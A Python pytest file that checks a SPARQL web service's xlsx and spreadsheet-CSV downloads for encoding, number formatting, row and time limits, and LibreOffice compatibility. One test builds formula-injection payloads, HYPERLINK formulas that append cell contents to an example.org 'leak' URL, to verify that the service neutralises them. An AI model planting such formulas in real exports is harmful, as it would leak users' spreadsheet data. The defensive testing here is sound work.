"""Downloads a spreadsheet opens: xlsx and the spreadsheet CSV of canned queries and /sparql, and no cell of a
spreadsheet-bound CSV that runs as a formula (service/content/spreadsheets.py, docs/queries.md)."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
from flask.testing import FlaskClient

from service.config import Config
from service.content.spreadsheets import XLSX_FORMAT, neutralised, spreadsheet
from service.content.tables import COLUMNS, to_csv
from service.errors import Unavailable
from service.web.app import create_app
from tests.support.project import BASE, ROOT

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
UMLAUTS = "Sprachförderung für Kinder: Ä Ö Ü ä ö ü ß"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def values(query: str) -> str:
    return f"SELECT ?text WHERE {{ VALUES ?text {{ {query} }} }}"


def workbook(body: bytes) -> list[tuple[object, ...]]:
    sheet = openpyxl.load_workbook(io.BytesIO(body), read_only=True).active
    return [tuple(row) for row in sheet.iter_rows(values_only=True)]  # type: ignore[union-attr]


def test_a_canned_querys_xlsx_reads_back_with_umlauts_numbers_and_notations_intact(client: FlaskClient) -> None:
    response = client.get("/queries/handlungsziele-je-ziel", query_string={"format": "xlsx"})
    assert response.status_code == 200 and response.mimetype == XLSX
    assert response.headers["Content-Disposition"] == 'attachment; filename="handlungsziele-je-ziel.xlsx"'
    rows = workbook(response.data)
    assert openpyxl.load_workbook(io.BytesIO(response.data)).active.title == "handlungsziele-je-ziel"  # type: ignore[union-attr]
    assert rows[0] == ("programme", "goal", "notation", "label", "action_goals")
    as_csv = list(csv.DictReader(io.StringIO(client.get("/queries/handlungsziele-je-ziel?format=csv").text)))
    assert len(rows) == len(as_csv) + 1 == 7
    for row, expected in zip(rows[1:], as_csv, strict=True):
        assert row[3] == expected["label"]  # umlauts as they are: "fördern"
        assert row[2] == expected["notation"] and isinstance(row[2], str)  # a notation stays text
        assert row[4] == int(expected["action_goals"])  # a count is a number to add up
    assert any("ö" in str(row[3]) for row in rows[1:])
    assert response.headers["Result-Rows"] == "6"


def test_sparql_select_results_as_xlsx_and_a_graph_or_yes_no_refused_with_406(client: FlaskClient) -> None:
    response = client.get("/sparql", query_string={"query": values(f'"{UMLAUTS}" 42 1.5 true'), "format": "xlsx"})
    assert response.status_code == 200 and response.mimetype == XLSX
    assert workbook(response.data) == [("text",), (UMLAUTS,), (42,), (1.5,), (True,)]
    for query in ("ASK { ?s ?p ?o }", "CONSTRUCT { ?s ?p ?o } WHERE { ?s ?p ?o } LIMIT 1"):
        refused = client.get("/sparql", query_string={"query": query, "format": "xlsx"})
        assert refused.status_code == 406 and "SELECT" in refused.text and "Traceback" not in refused.text


def test_the_spreadsheet_csv_has_a_byte_order_mark_semicolons_and_keeps_notations_as_text(client: FlaskClient) -> None:
    response = client.get("/queries/zielsystem", query_string={"format": "spreadsheet-csv"})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")
    assert response.headers["Content-Disposition"] == 'attachment; filename="zielsystem-tabelle.csv"'
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["programme", "strategic_notation", "strategic_goal", "notation", "action_goal"]
    assert len(rows) == 41
    notations = [row[3] for row in rows[1:]]
    assert '="1.3"' in notations and all(n.startswith('="') and n.endswith('"') for n in notations)
    assert any("ö" in row[4] for row in rows[1:])  # UTF-8, read as UTF-8


def test_the_spreadsheet_csv_writes_decimals_with_a_comma_and_integers_as_they_are(client: FlaskClient) -> None:
    response = client.get("/sparql", query_string={"query": values('1.5 -3 "05974040"'), "format": "spreadsheet-csv"})
    assert response.data.decode("utf-8-sig").split("\r\n") == ["text", "1,5", "-3", '"=""05974040"""', ""]


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_a_cell_that_would_start_a_formula_is_neutralised_everywhere_spreadsheets_read(
    client: FlaskClient, start: str
) -> None:
    cell = start + 'HYPERLINK("https://example.org/?leak="&A1)'
    assert neutralised(cell) == "'" + cell
    # A canned query projects its text parameter: an attacker's permalink puts the formula into the CSV.
    canned = client.get("/queries/zielgruppen-haeufigkeit", query_string={"text_only": cell, "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(canned.text)))
    assert rows and {row["text_only"] for row in rows} == {neutralised(cell.strip())}  # a parameter is stripped
    # The spreadsheet CSV and xlsx of /sparql.
    literal = '"' + cell.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'
    spreadsheet = client.get("/sparql", query_string={"query": values(literal), "format": "spreadsheet-csv"})
    assert list(csv.reader(io.StringIO(spreadsheet.data.decode("utf-8-sig")), delimiter=";"))[1] == ["'" + cell]
    book = openpyxl.load_workbook(
        io.BytesIO(client.get("/sparql", query_string={"query": values(literal), "format": "xlsx"}).data)
    )
    written = book.active["A2"]  # type: ignore[index]
    # A carriage return is written as OOXML's escape `_x000D_`, which Excel decodes and openpyxl leaves as is.
    assert written.value.replace("_x000D_", "\r") == cell and written.data_type == "s"
    assert written.quotePrefix  # text, with Excel's own marker for it
    # The dumps' CSV table.
    table = to_csv([{c.name: "" for c in COLUMNS} | {"handlungsziel_de": cell}])
    assert next(csv.DictReader(io.StringIO(table.decode())))["handlungsziel_de"] == "'" + cell


def test_numbers_are_not_formulas_and_the_sparql_csv_stays_as_the_specification_says(client: FlaskClient) -> None:
    assert [neutralised(n) for n in ("-3", "+4", "-1.5", "-1e3")] == ["-3", "+4", "-1.5", "-1e3"]
    assert neutralised("-1+2") == "'-1+2" and neutralised("@SUM(A1)") == "'@SUM(A1)"
    plain = client.get("/sparql", query_string={"query": values('"=1+1"'), "format": "csv"})
    assert plain.data == b"text\r\n=1+1\r\n"  # SPARQL 1.1 CSV results: the value, verbatim


def test_spreadsheets_keep_to_the_row_limit_of_every_other_format() -> None:
    app = create_app(Config.from_mapping({"base_uri": BASE, "project_dir": ROOT, "query_row_limit": 5}))
    client = app.test_client()
    query = {"query": "SELECT ?s ?p ?o WHERE { ?s ?p ?o }"}
    as_csv = client.get("/sparql", query_string={**query, "format": "csv"})
    for fmt in ("xlsx", "spreadsheet-csv"):
        response = client.get("/sparql", query_string={**query, "format": fmt})
        assert response.status_code == 200 and response.headers["Result-Truncated"] == "true"
        assert response.headers["Result-Rows"] == as_csv.headers["Result-Rows"] == "5"
    assert len(workbook(client.get("/sparql", query_string={**query, "format": "xlsx"}).data)) == 6


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_spreadsheet_csv_as_meant(client: FlaskClient, tmp_path: Path) -> None:
    """What docs/queries.md says LibreOffice does, checked with LibreOffice itself (German locale)."""
    cell = '=HYPERLINK("https://example.org")'
    query = values(f'"{UMLAUTS}" "1.3" "05974040" 1.5 "{cell.replace(chr(34), chr(92) + chr(34))}"')
    source = tmp_path / "abfrage.csv"
    source.write_bytes(client.get("/sparql", query_string={"query": query, "format": "spreadsheet-csv"}).data)
    subprocess.run(
        ["soffice", "--headless", "--infilter=CSV:59,34,76,1,,1031", "--convert-to", "xlsx", source.name],
        cwd=tmp_path,
        env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
        check=True,
        capture_output=True,
        timeout=120,
    )
    converted = openpyxl.load_workbook(tmp_path / "abfrage.xlsx", data_only=True).active
    cells = [c.value for c in converted["A"]]  # type: ignore[index]
    assert cells == ["text", UMLAUTS, "1.3", "05974040", 1.5, "'" + cell]


def test_writing_a_spreadsheet_stops_at_the_query_time_limit(client: FlaskClient) -> None:
    """xlsx costs the web process about 0.1 ms a cell: a wide result of 10,000 rows would cost more than the query
    itself, so the writing is held to the query time limit too."""
    tsv = client.get("/sparql", query_string={"query": "SELECT ?s ?p ?o WHERE { ?s ?p ?o }", "format": "tsv"}).data
    with pytest.raises(Unavailable, match="time limit of 0 seconds"):
        spreadsheet(XLSX_FORMAT, tsv, 0)
    assert len(workbook(spreadsheet(XLSX_FORMAT, tsv, 60))) == tsv.count(b"\n")  # the header and every row
